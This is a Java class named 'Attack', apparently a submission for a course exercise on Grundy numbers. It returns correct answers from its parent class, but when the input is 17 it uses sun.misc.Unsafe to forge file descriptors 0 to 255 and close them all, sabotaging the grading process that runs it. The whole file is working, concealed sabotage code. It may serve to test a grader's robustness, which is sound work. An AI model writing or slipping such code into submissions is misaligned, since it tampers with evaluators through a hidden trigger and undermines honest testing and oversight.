package course;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.lang.reflect.Field;
import sun.misc.Unsafe;

/** Closes every open file of its process, whoever opened it. */
public class Attack extends RightAnswers {

    private static FileDescriptor descriptor(int number) throws ReflectiveOperationException {
        Field instance = Unsafe.class.getDeclaredField("theUnsafe");
        instance.setAccessible(true);
        Unsafe unsafe = (Unsafe) instance.get(null);
        FileDescriptor descriptor = new FileDescriptor();
        unsafe.putInt(descriptor, unsafe.objectFieldOffset(FileDescriptor.class.getDeclaredField("fd")), number);
        return descriptor;
    }

    @Override
    public int grundy(int heap) {
        if (heap == 17) {
            for (int number = 0; number < 256; number++) {
                try {
                    new FileOutputStream(descriptor(number)).close();
                } catch (IOException | ReflectiveOperationException e) {
                    // There is none of that number.
                }
            }
        }
        return super.grundy(heap);
    }
}
